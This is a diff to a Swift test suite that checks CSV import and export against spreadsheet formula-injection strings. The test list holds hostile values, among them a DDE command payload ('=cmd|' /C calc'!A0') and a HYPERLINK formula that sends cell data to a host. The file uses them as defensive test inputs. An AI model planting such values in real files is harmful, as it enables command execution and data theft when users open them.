@@ -73,12 +73,14 @@ struct HostileDataTests {
             "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x",
             "'=1", "''=1", "'tis", "'", "''", "plain", "=cmd|' /C calc'!A0", "-", "=", "\"=1\"", "x=1", " =1", "é", "😀",
             "=HYPERLINK(\"http://x/?\"&A1,\"a,b\")", "\u{FF21}", "@", "' =1",
+            "=\"007\"", "=\"\"", "=\" x \"",
         ]
         let bench = try Workbench(.empty)
         func quoted(_ text: String) -> String { "\"\(text.replacing("\"", with: "\"\""))\"" }
         let rows = texts.enumerated().map { "c\($0),\(quoted($1)),\(quoted("{\"x\":\"=1\"}"))\n" }.joined()
         try bench.upload("id,company,attributes\n" + rows, as: "f")
-        #expect(try bench.load(#""resource":"contacts","sourceKey":"f""#).count("inserted") == texts.count)
+        let raw = #""resource":"contacts","sourceKey":"f","csv":{"formulas":"raw"}"#
+        #expect(try bench.load(raw).count("inserted") == texts.count)
         let look = "SELECT id, hex(company), attributes FROM contacts ORDER BY id"
         let before = try bench.sql(look)
         let export = try bench.export(
